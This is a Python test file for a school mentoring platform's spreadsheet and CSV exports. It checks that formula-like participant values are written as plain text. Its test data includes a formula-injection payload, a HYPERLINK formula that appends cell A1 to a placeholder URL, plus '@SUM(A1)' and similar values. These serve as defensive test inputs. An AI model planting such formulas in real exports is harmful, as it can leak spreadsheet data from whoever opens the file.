"""Every spreadsheet and CSV the platform writes shows a formula-like value as plain text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from nastavnik.platform.db import set_school
from nastavnik.school.participants.models import Participant
from tests.conftest import Browser, Persona, World, csrf_token
from tests.functional._participants import give_consent, make_mentee, make_mentor, make_person, year_title
from tests.functional.test_participant_import import csv_bytes, submit_mapping, upload

pytestmark = pytest.mark.anyio

ATTACK = '=HYPERLINK("http://x"&A1,"click")'


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_mentee_export_writes_a_formula_like_name_as_a_string_cell(
    browser_for: Browser, curator_a: Persona, world: World, db: AsyncSession
) -> None:
    person = await make_person(db, world.school_a, last_name=ATTACK, first_name="@cmd")
    await make_mentee(db, world.school_a, person)
    await give_consent(db, world.school_a, person)
    browser = await browser_for(curator_a)
    reply = await browser.get(f"/s/{world.school_a.code}/mentees/export.xlsx?year={year_title()}")
    assert reply.status_code == 200
    assert b"<f>" not in reply.content  # no formula element anywhere in the workbook
    sheet = load_workbook(io.BytesIO(reply.content)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.value == f"{ATTACK} @cmd Сергеевич"
    assert cell.data_type == "s"
    assert cell.quotePrefix


async def test_mentor_export_writes_a_formula_like_position_as_a_string_cell(
    browser_for: Browser, curator_a: Persona, world: World, db: AsyncSession
) -> None:
    profile = await make_mentor(db, world.school_a, last_name="Лебедева", position=ATTACK)
    await give_consent(
        db, world.school_a, await db.get(Participant, (world.school_a.id, profile.participant_id))
    )
    browser = await browser_for(curator_a)
    reply = await browser.get(f"/s/{world.school_a.code}/mentors/export.xlsx?year={year_title()}")
    assert reply.status_code == 200
    sheet = load_workbook(io.BytesIO(reply.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == ATTACK]
    assert cells, "the position is in the export"
    assert all(c.data_type == "s" for c in cells)


async def test_import_error_report_csv_quotes_formula_like_values(
    browser_for: Browser, curator_a: Persona, world: World
) -> None:
    rows = [
        ["Фамилия", "Имя", "Дата рождения", "Класс"],
        ["Верный", "Олег", ATTACK, "7А"],
        ["Плохой", "Пётр", "+1", "-7"],
        ["Злой", "Иван", "@SUM(A1)", "7А"],
    ]
    browser = await browser_for(curator_a)
    url = (await upload(browser, world, "evil.csv", csv_bytes(rows))).headers["location"]
    await submit_mapping(browser, url)
    report = await browser.get(f"{url}/errors.csv")
    assert report.status_code == 200
    values = {value for _, _, value, _ in _csv_rows(report.content)[1:]}
    assert {"'" + ATTACK, "'+1", "'-7", "'@SUM(A1)"} <= values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)


async def test_admin_import_report_csv_quotes_formula_like_values(
    browser_for: Browser, platform_admin: Persona, world: World
) -> None:
    browser = await browser_for(platform_admin)
    path = f"/admin/regions/{world.region.code}"
    token = await csrf_token(browser, path)
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(
        ["Муниципалитет", "Код", "Краткое наименование", "Полное наименование", "Тип", "ИНН", "Адрес"]
    )
    row = ["x", "BAD CODE", "Школа", "", "гимназия", "12", ""]
    sheet.append(row)
    sheet["A2"].value = ATTACK
    sheet["A2"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    reply = await browser.post(
        f"{path}/schools/import",
        data={"_csrf_token": token},
        files={"file": ("schools.xlsx", buffer.getvalue(), "application/octet-stream")},
    )
    assert reply.status_code == 422
    report_id = reply.text.split('href="/admin/import-reports/')[1].split('"')[0]
    report = await browser.get(f"/admin/import-reports/{report_id}")
    assert report.status_code == 200
    by_column = {column: value for _, column, value, _ in _csv_rows(report.content)[1:]}
    assert by_column["Муниципалитет"] == "'" + ATTACK


async def test_unprefixed_values_of_a_report_are_unchanged(
    browser_for: Browser, curator_a: Persona, world: World, db: AsyncSession
) -> None:
    await set_school(db, world.school_a.id)
    rows = [["Фамилия", "Имя", "Дата рождения", "Класс"], ["Верный", "Олег", "31.02.2012", "7А"]]
    browser = await browser_for(curator_a)
    url = (await upload(browser, world, "plain.csv", csv_bytes(rows))).headers["location"]
    await submit_mapping(browser, url)
    lines = _csv_rows((await browser.get(f"{url}/errors.csv")).content)
    assert ("Дата рождения", "31.02.2012") in {(c, v) for _, c, v, _ in lines[1:]}
